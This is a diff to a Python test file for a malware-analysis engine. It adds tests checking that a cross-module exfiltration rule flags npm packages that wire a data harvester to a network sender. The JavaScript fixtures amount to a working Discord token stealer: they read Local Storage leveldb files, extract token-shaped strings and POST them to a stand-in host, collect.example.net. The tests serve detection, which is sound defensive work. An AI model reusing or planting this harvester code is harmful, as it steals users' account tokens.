@@ -3,7 +3,7 @@ documentation addresses; nothing is ever run), and SDKs whose modules merely coe
 
 from __future__ import annotations
 
-from tests.analysis.builders import run_rule, sdist
+from tests.analysis.builders import npm_tarball, run_rule, sdist
 from threatfeed.analysis import Engine
 from threatfeed.analysis.rules.cross_module import cross_module_exfiltration_rule
 
@@ -138,3 +138,80 @@ def test_imports_in_parentheses_with_comments_under_src_are_followed(engine: Eng
     )
     evidence = run_rule(engine, cross_module_exfiltration_rule, archive)
     assert [item["file"].rpartition("/")[2] for item in evidence] == ["boot.py"]
+
+
+JS_COLLECT = (
+    "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n\n"
+    "function gather() {\n"
+    "  const dir = path.join(os.homedir(), 'AppData/Roaming/discord/Local Storage/leveldb');\n"
+    "  const found = {};\n"
+    "  for (const name of fs.readdirSync(dir)) {\n"
+    "    const text = fs.readFileSync(path.join(dir, name), 'utf8');\n"
+    "    found[name] = text.match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g);\n"
+    "  }\n"
+    "  return found;\n"
+    "}\nmodule.exports = { gather };\n"
+)
+JS_SEND = (
+    "const https = require('https');\n\n"
+    "module.exports = function push(body) {\n"
+    "  const req = https.request({ host: 'collect.example.net', method: 'POST', path: '/up' });\n"
+    "  req.end(JSON.stringify(body));\n"
+    "};\n"
+)
+
+
+def _js_split(wire: str, *, collect: str = "lib/collect.js", send: str = "lib/net/send.js") -> bytes:
+    return npm_tarball(
+        {"index.js": wire, collect: JS_COLLECT, send: JS_SEND},
+    )
+
+
+def test_a_javascript_module_that_wires_a_harvester_to_a_sender_flags(engine: Engine) -> None:
+    wire = (
+        "const { gather: g } = require('./lib/collect');\n"
+        "const push = require('./lib/net/send.js');\n"
+        "setTimeout(() => push(g()), 5000);\n"
+    )
+    archive = _js_split(wire)
+    assert run_rule(engine, cross_module_exfiltration_rule, archive) == [
+        {
+            "file": "package/index.js",
+            "harvests_in": "package/lib/collect.js",
+            "sends_in": "package/lib/net/send.js",
+        }
+    ]
+
+
+def test_javascript_imports_and_modules_called_where_required_are_followed(
+    engine: Engine,
+) -> None:
+    wire = (
+        "import * as c from './lib/collect.js';\n"
+        "export default async function init() {\n"
+        "  require('./lib/net/send')(c.gather());\n"
+        "}\n"
+    )
+    evidence = run_rule(engine, cross_module_exfiltration_rule, _js_split(wire))
+    assert [item["file"] for item in evidence] == ["package/index.js"]
+
+
+def test_a_javascript_module_that_requires_both_but_calls_neither_is_not_reported(
+    engine: Engine,
+) -> None:
+    wire = (
+        "const collect = require('./lib/collect');\nconst send = require('./lib/net/send');\n"
+        "module.exports = { collect, send };\n"
+    )
+    assert run_rule(engine, cross_module_exfiltration_rule, _js_split(wire)) is None
+
+
+def test_javascript_requires_of_other_packages_are_not_followed(engine: Engine) -> None:
+    wire = (
+        "const { gather } = require('collect');\nconst push = require('lib/net/send');\n"
+        "push(gather());\n"
+    )
+    archive = npm_tarball(
+        {"index.js": wire, "node_modules/collect/index.js": JS_COLLECT, "lib/net/send.js": JS_SEND}
+    )
+    assert run_rule(engine, cross_module_exfiltration_rule, archive) is None
